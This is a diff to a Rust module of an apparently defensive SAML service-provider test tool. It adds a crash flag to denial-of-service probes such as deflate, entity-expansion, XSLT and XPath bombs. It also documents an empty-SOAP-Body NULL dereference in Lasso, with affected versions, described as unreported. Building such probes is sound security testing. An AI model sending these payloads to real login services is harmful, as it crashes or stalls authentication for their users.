@@ -1,13 +1,14 @@
 //! Denial of service: small messages that make an SP do far more work than their size, each
 //! posted as the `SAMLResponse` of an SP-initiated login and timed against a yardstick of the
-//! same size.
+//! same size, and messages that kill the worker reading them (answered or not, against a
+//! yardstick that differs only where the crash is reached).
 
 use std::io::Write;
 use std::sync::OnceLock;
 
 use base64::Engine;
 use saml_protocol::xmlenc::{ENCRYPTED_KEY_TYPE, XENC_NS};
-use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N, PROTOCOL_NS};
+use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N, PROTOCOL_NS, SOAP11_ENVELOPE_NS};
 
 use crate::bytes::{self, Doc, Node};
 use crate::check::{Burden, BURDEN_FLOOR, QUICK_FLOOR, SAME_SIZE_RATIO, SAME_WORK_RATIO};
@@ -101,6 +102,7 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: false,
         by_redirect: false,
+        crash: false,
         encoded: posted,
         shown: format!(
             "<!-- raw DEFLATE, then base64: inflates to {} MiB -->\n<!-- {} MiB of line feeds -->\n{response}",
@@ -178,6 +180,7 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: false,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -231,6 +234,7 @@ pub fn entity_expansion(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: true,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -336,6 +340,7 @@ pub fn large_signed_info(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: false,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -426,6 +431,7 @@ pub fn xslt_bomb(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: false,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -494,6 +500,7 @@ pub fn xpath_bomb(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: false,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -594,6 +601,7 @@ pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: true,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -668,6 +676,7 @@ pub fn many_attributes(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: false,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -719,6 +728,7 @@ pub fn end_tag_whitespace(f: &Forge) -> Result<Burden, Skip> {
         // signs the user in rightly, at whatever cost; only time tells.
         ignorable: true,
         by_redirect: false,
+        crash: false,
     })
 }
 
@@ -796,15 +806,14 @@ pub fn manifest_device(f: &Forge) -> Result<Burden, Skip> {
         floor: BURDEN_FLOOR,
         ignorable: true,
         by_redirect: false,
+        crash: false,
     })
 }
 
-/// The SOAP 1.1 envelope namespace (Lasso unwraps a message in one before reading it).
-const SOAP11_ENVELOPE_NS: &str = "http://schemas.xmlsoap.org/soap/envelope/";
-
-/// A burden read as a crash: answered at all (quickly, any status) it passes; every round
-/// unanswered (the connection closed) is `vulnerable`. The yardstick is the same message but
-/// for the one part that reaches the crash.
+/// A burden read as a crash ([`Burden::crash`]): answered at all it passes; in every round
+/// the connection closed without an answer, or a gateway's 502/504 where the yardstick got
+/// none, is `vulnerable`. The yardstick is the same message but for the one part that
+/// reaches the crash.
 fn crash_probe(burden: String, yardstick: String, yardstick_is: &'static str) -> Burden {
     Burden {
         encoded: encoded(&burden),
@@ -816,12 +825,14 @@ fn crash_probe(burden: String, yardstick: String, yardstick_is: &'static str) ->
         // Nothing here costs work: only whether the SP answers counts.
         ignorable: true,
         by_redirect: false,
+        crash: true,
     }
 }
 
 /// A SOAP 1.1 envelope whose Body holds no element, as `SAMLResponse`: Lasso (mod_auth_mellon,
-/// LemonLDAP::NG) unwraps SOAP before reading a message and hands the Body's first element,
-/// none, to its node reader, which reads its name (a NULL dereference, the worker dies).
+/// LemonLDAP::NG; 2.6.1.3 to 2.8.2, unreported) unwraps SOAP before reading a message and
+/// hands the Body's first element, none, to its node reader, which reads its name (a NULL
+/// dereference, the worker dies).
 /// Yardstick: the IdP's own response inside the same envelope's Body.
 pub fn soap_empty_body(f: &Forge) -> Result<Burden, Skip> {
     let envelope = |body: &str| {
@@ -852,9 +863,12 @@ pub fn any_attributes(f: &Forge) -> Result<Burden, Skip> {
         .ok_or_else(|| {
             Skip::NotApplicable("the response carries no claim to put the attribute on".into())
         })?;
-    let name_end = value.range().start + 1 + bytes::qualified_name(doc.src, value).len();
+    let name_end = bytes::after_name(doc.src, value);
     let with = |name: &str| {
-        let attributes = format!(" {name}=\"{}\" xmlns:x=\"urn:x\" x:y=\"1\"", "A".repeat(96));
+        let attributes = format!(
+            " {name}=\"{}\" xmlns:lassox=\"urn:x\" lassox:y=\"1\"",
+            "A".repeat(96)
+        );
         bytes::splice(doc.src, vec![bytes::insert(name_end, attributes)])
     };
     Ok(crash_probe(
